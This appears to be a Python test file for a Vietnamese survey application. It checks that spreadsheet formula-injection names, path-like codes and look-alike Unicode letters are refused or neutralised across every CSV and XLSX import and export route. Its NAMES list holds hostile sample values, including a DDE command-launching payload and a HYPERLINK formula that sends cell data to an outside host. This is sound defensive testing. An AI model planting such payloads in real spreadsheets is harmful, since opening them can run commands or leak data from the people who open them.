"""Names that do harm in spreadsheets, imported as people would, then every table that leaves: nothing of them is run,
none breaks a row, and none that only looks like another agency's is taken for it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine, update

from pipeline.calendar import today
from pipeline.language import Text
from server.rounds.rounds import make_round
from server.store.engine import write
from server.store.tables.ratings import ratings
from server.store.tables.users import Role
from tests.server.client import Browser
from tests.server.province import application, fill_province
from tests.server.web.test_isolation import routes

NAMES = (
    '=HYPERLINK("http://x.vn/"&A1,"Sở Y tế")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+84 24 Sở",
    "-2+3 Sở",
    "Sở; =1+1",
    "Sở | =cmd()",
    'Sở ";=1+1',
    "＝1+1 Sở",
    'Sở, =2+5, "=3"',
)


def _upload(browser: Browser, kind: str, file: bytes, name: str = "x.csv", **more: str) -> Any:
    form = {"kind": kind, "what": "import", **more}
    return browser.post("/survey/import", form, form="/survey/import", files={"file": (name, file, "text/csv")})


def _csv(*rows: tuple[object, ...]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _xlsx(*rows: tuple[object, ...]) -> bytes:
    book = openpyxl.Workbook()
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = book.active.cell(number, column)  # type: ignore[union-attr]
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _table_routes(app: Any) -> set[str]:
    return {route.path for route in routes(app) if re.search(r"csv|xlsx|\{ending\}", route.path)}


def _said(answer: Any) -> str:
    return " ".join(re.findall(r'<div class="(?:problem|notice)".*?</div>', answer.text, re.DOTALL))


@pytest.mark.parametrize(
    "code", ["..", "a/b", "a\\b", "a?b", "a#b", "a%2fb", "=1+1", "@x", "-1", "+84", "l;=1", "a'b", "1E+14"]
)
def test_a_code_that_no_address_or_table_can_hold_is_refused(code: str, store: Engine, tmp_path: Path) -> None:
    """`a/b` was taken, and its agency's page could not be reached."""
    province = fill_province(store, "p1")
    browser = Browser(application(store, tmp_path))
    browser.log_in(province.users[Role.ADMINISTRATOR])
    assert "problem" in _said(_upload(browser, "agencies", _csv(("code", "name_vi", "level"), (code, "Sở", "tinh"))))


@pytest.mark.parametrize(("code", "name"), [("h\u0430", "Sở A"), ("ha", "S\u1edf \u0410"), ("ha", "Sở \u0391")])
def test_letters_that_look_like_ours_make_no_second_agency(code: str, name: str, store: Engine, tmp_path: Path) -> None:
    province = fill_province(store, "p1")
    browser = Browser(application(store, tmp_path))
    browser.log_in(province.users[Role.ADMINISTRATOR])
    rows = ("code", "name_vi", "level"), (code, name, "tinh")
    assert "U+0" in _said(_upload(browser, "agencies", _csv(*rows)))
    assert "U+0" in _said(_upload(browser, "agencies", _xlsx(*rows), "x.xlsx"))


def _cells(content: bytes, kind: str) -> list[str]:
    """Every text of a table as a spreadsheet may split it: also with other separators than its own."""
    if kind != "text/csv":
        found = []
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row), "a formula"
                found += [str(cell.value) for cell in row if isinstance(cell.value, str)]
        return found
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for separator in ";\t|":
        inner = [part for line in re.split(r"[\r\n]+", text) for part in line.split(separator)[1:]]
        assert not [one for one in inner if one.strip(' "').startswith(tuple("=+-@＝＋－＠"))]
    assert not [one for one in cells if one.lstrip().startswith(tuple("=+@＝＋－＠")) or re.match(r"\s*-\D", one)]
    return cells


def test_hostile_names_go_in_and_come_out_as_texts(store: Engine, tmp_path: Path) -> None:
    """By every route that ends in a table; a route that is new has to be here."""
    province = fill_province(store, "p1", simulated=False)
    app = application(store, tmp_path)
    browser = Browser(app)
    browser.log_in(province.users[Role.ADMINISTRATOR])
    groups = [(number, name) for number, name in enumerate(NAMES, start=1)]
    for kind, file in (
        ("levels", _csv(("code", "name_vi", "rank"), ("l9", NAMES[3], 9))),
        ("fields", _csv(("code", "name_vi"), ("f9", NAMES[1]))),
        ("service_groups", _csv(("number", "name_vi", "field"), *((*group, "f9") for group in groups))),
        ("services", _csv(("code", "name_vi", "service_group"), ("s1", NAMES[4], 1))),
        ("enumerators", _csv(("code", "name_vi"), ("e1", NAMES[5]))),
        ("agencies", _csv(("code", "name_vi", "level"), ("p1-a", NAMES[0], "tinh"), ("p1-b", NAMES[6], "l9"))),
        ("transactions", _csv(("agency", "month", "count"), ("p1-a", "2026-08", "900"), ("p1-b", "2026-08", "900"))),
    ):
        assert "notice" in _said(_upload(browser, kind, file)), kind
    with write(store) as connection:
        connection.execute(update(ratings).values(service_group=1, reasons=3))
        first, last = today() - 9, today() + 9
        ids = {"code": "r1", "name": Text.named(vi=NAMES[2]), "instrument": "2640", "user_id": None}
        number = make_round(connection, province.province_id, first_day=first, last_day=last, **ids).id  # type: ignore[arg-type]
    period = "?period=2026-Q3"
    texts: dict[str, list[str]] = {}
    paths = {
        "/agencies/{code}/figures.csv": [f"/agencies/p1-a/figures.csv{period}"],
        "/analysis/{table}.{ending}": [f"/analysis/{table}.csv{period}" for table in ("agreement", "estimates")],
        "/compare.csv": [f"/compare.csv{period}&a=p1-a&b=p1-b"],
        "/heatmap.csv": [f"/heatmap.csv{period}", f"/heatmap.csv{period}&by=factor"],
        "/reasons.csv": [f"/reasons.csv{period}&by={by}" for by in ("agency", "service_group", "field")],
        "/reports/sheet61/{name}.xlsx": ["/reports/sheet61/2026-Q3.xlsx"],
        "/reports/{name}.{ending}": ["/reports/2026-Q3.xlsx"],
        "/scores.csv": [f"/scores.csv{period}"],
        "/survey/766.csv": ["/survey/766.csv?period=2026-09"],
        "/survey/import/template/{kind}.{ending}": ["/survey/import/template/ratings.xlsx"],
        "/survey/index.csv": [
            f"/survey/index.csv{period}&by={by}" for by in ("agency", "field", "service_group", "level")
        ],
        "/survey/index.xlsx": [f"/survey/index.xlsx{period}"],
        "/survey/plan.csv": ["/survey/plan.csv?code=none"],
        "/survey/rounds/{round_id}/forms.csv": [f"/survey/rounds/{number}/forms.csv"],
    }
    assert set(paths) == _table_routes(app)
    for path in [one for each in paths.values() for one in each]:
        answer = browser.get(path)
        kind = answer.headers["content-type"].split(";")[0]
        if kind != "text/html":  # a report is made meanwhile, a plan is not there
            texts[path.split("?")[0]] = texts.get(path.split("?")[0], []) + _cells(answer.content, kind)
    named = {path for path, cells in texts.items() if any(NAMES[0] in cell or NAMES[6][:3] in cell for cell in cells)}
    assert {"/survey/index.csv", "/survey/index.xlsx", "/agencies/p1-a/figures.csv", "/scores.csv"} <= named
